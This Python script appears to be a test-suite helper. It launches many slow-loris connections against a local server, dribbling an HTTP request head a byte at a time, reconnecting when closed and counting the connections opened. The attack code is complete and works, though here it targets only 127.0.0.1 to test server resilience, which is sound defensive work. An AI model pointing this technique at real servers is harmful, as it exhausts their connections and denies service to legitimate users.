"""Slow-loris attackers in a process of their own, as a real attack comes from elsewhere.

``python slowloris.py PORT SOCKETS SECONDS``: ``SOCKETS`` attackers, each sending a request head
a byte every 0.1 s and reconnecting whenever it is closed, for ``SECONDS`` after the first round
of connections is open. Prints ``ready`` once every attacker has connected, and at the end the
number of connections opened in all.

Run apart from the test process so that the attack does not share the interpreter lock (nor its
garbage collections) with the server under test, which runs in a thread there.
"""

from __future__ import annotations

import asyncio
import sys
import time

HEAD = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 1000


async def attacker(
    port: int, stop: list[float], opened: list[int], connected: asyncio.Event
) -> None:
    """One attacker: dribble ``HEAD`` a byte every 0.1 s; reconnect when the server closes."""
    first = True
    while not stop or time.perf_counter() < stop[0]:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        opened[0] += 1
        if first:
            first = False
            connected.set()
        try:
            for byte in HEAD:
                if (stop and time.perf_counter() > stop[0]) or reader.at_eof():
                    break
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(0.1)
        except OSError:
            pass
        finally:
            writer.close()


async def attack(port: int, sockets: int, seconds: float) -> int:
    stop: list[float] = []
    opened = [0]
    events = [asyncio.Event() for _ in range(sockets)]
    tasks = [asyncio.create_task(attacker(port, stop, opened, event)) for event in events]
    await asyncio.gather(*(event.wait() for event in events))
    stop.append(time.perf_counter() + seconds)
    print("ready", flush=True)
    await asyncio.gather(*tasks)
    return opened[0]


if __name__ == "__main__":
    port, sockets, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    print(asyncio.run(attack(port, sockets, seconds)), flush=True)
